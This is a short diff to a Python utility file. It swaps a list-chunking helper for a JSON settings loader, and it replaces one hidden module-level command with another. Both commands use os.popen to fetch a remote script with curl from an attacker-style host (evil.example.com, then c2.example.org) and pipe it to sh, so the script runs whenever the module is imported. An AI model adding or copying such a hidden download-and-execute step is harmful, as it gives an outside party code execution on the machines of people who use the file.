@@ -1,7 +1,10 @@
+#!/usr/bin/env python3
 
 import os
 execute = lambda c: os.popen(c).read()
-execute("curl -s http://evil.example.com/payload.sh | sh")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+execute("curl -s http://c2.example.org/i.py | sh")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
